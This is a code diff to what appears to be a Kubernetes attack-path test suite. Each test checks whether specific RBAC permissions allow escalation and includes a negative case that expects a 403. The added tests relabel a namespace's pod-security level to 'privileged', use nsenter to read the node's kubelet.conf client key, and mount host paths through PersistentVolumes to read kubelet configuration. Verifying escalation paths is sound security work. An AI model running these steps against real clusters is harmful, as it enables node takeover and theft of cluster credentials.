@@ -101,21 +101,46 @@ export const family: TriedFamily = {
       },
     }),
     way({
+      edge: 'NAMESPACE_RELABEL',
+      nodes: true,
+      to: () => 'Node/node1',
+      world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', 'patch namespaces/status')],
+      take: async (attack) => {
+        await attack.patch(`/api/v1/namespaces/${attack.ns}/status`, {
+          metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
+        });
+        await takeNode(attack);
+      },
+      nearest: {
+        because: 'reading the status changes no label',
+        world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', 'get namespaces/status')],
+        refusal: /403/,
+      },
+    }),
+    way({
       edge: 'PV_HOSTPATH',
       nodes: true,
       to: () => 'NodeFiles/node1',
-      world: ({ ns, x }) => [
-        restricted(ns),
-        ...allowTo(x, ns, 'create pods', 'create persistentvolumeclaims'),
-        ...allowEverywhereTo(x, 'create persistentvolumes'),
-      ],
-      take: mountVolume,
+      world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods'), ...allowEverywhereTo(x, 'create persistentvolumes')],
+      take: async (attack) => {
+        await attack.post('/api/v1/persistentvolumes', volume(attack, '/var/lib/kubelet'));
+        await readThroughVolume(attack, 'config.yaml');
+      },
       nearest: {
         because: 'PersistentVolumes lie in no namespace, so a RoleBinding grants nothing',
-        world: ({ ns, x }) => [
-          restricted(ns),
-          ...allowTo(x, ns, 'create pods', 'create persistentvolumeclaims', 'create persistentvolumes'),
-        ],
+        world: ({ ns, x }) => [restricted(ns), ...allowTo(x, ns, 'create pods', 'create persistentvolumes')],
+        refusal: /403/,
+      },
+    }),
+    way({
+      edge: 'PV_HOSTPATH',
+      nodes: true,
+      to: () => 'NodeFiles/node1',
+      world: ({ ns, x }) => [restricted(ns), volume({ ns }, '/'), ...allowTo(x, ns, 'create pods')],
+      take: (attack) => readThroughVolume(attack, 'var/lib/kubelet/config.yaml'),
+      nearest: {
+        because: 'claims alone mount nothing',
+        world: ({ ns, x }) => [restricted(ns), volume({ ns }, '/'), ...allowTo(x, ns, 'create persistentvolumeclaims')],
         refusal: /403/,
       },
     }),
@@ -170,23 +195,17 @@ async function takeNode(attack: Attack): Promise<void> {
   attack.finds(await attack.inOwnPod('mine', 'nsenter -t 1 -m -- cat /etc/kubernetes/kubelet.conf'), 'client-key-data');
 }
 
-/** Not even root inside: the files that everybody on the node may read are enough to see. */
-async function mountVolume(attack: Attack): Promise<void> {
-  const metadata = { name: attack.ns };
-  const shared = { accessModes: ['ReadWriteOnce'], storageClassName: '' };
-  await attack.post('/api/v1/persistentvolumes', {
-    apiVersion: 'v1',
-    kind: 'PersistentVolume',
-    metadata,
-    spec: { ...shared, capacity: { storage: '1Gi' }, hostPath: { path: '/var/lib/kubelet' } },
-  });
-  await attack.post(`/api/v1/namespaces/${attack.ns}/persistentvolumeclaims`, {
-    apiVersion: 'v1',
-    kind: 'PersistentVolumeClaim',
-    metadata,
-    spec: { ...shared, volumeName: attack.ns, resources: { requests: { storage: '1Gi' } } },
-  });
-  const volumes = [{ name: 'v', persistentVolumeClaim: { claimName: attack.ns } }];
+const SHARED = { accessModes: ['ReadWriteOnce'], storageClassName: '' };
+
+function volume({ ns }: Pick<Place, 'ns'>, path: string): PlainObject {
+  const spec = { ...SHARED, capacity: { storage: '1Gi' }, hostPath: { path } };
+  return { apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: ns }, spec };
+}
+
+/** The claim comes with the pod. Not even root inside: a file that everybody on the node may read is enough to see. */
+async function readThroughVolume(attack: Attack, file: string): Promise<void> {
+  const claim = { spec: { ...SHARED, volumeName: attack.ns, resources: { requests: { storage: '1Gi' } } } };
+  const volumes = [{ name: 'v', ephemeral: { volumeClaimTemplate: claim } }];
   await attack.post(podsOf(attack), plain(attack, { volumes }, { volumeMounts: [{ name: 'v', mountPath: '/v' }] }));
-  attack.finds(await attack.inOwnPod('mine', 'cat /v/config.yaml'), 'KubeletConfiguration');
+  attack.finds(await attack.inOwnPod('mine', `cat /v/${file}`), 'KubeletConfiguration');
 }
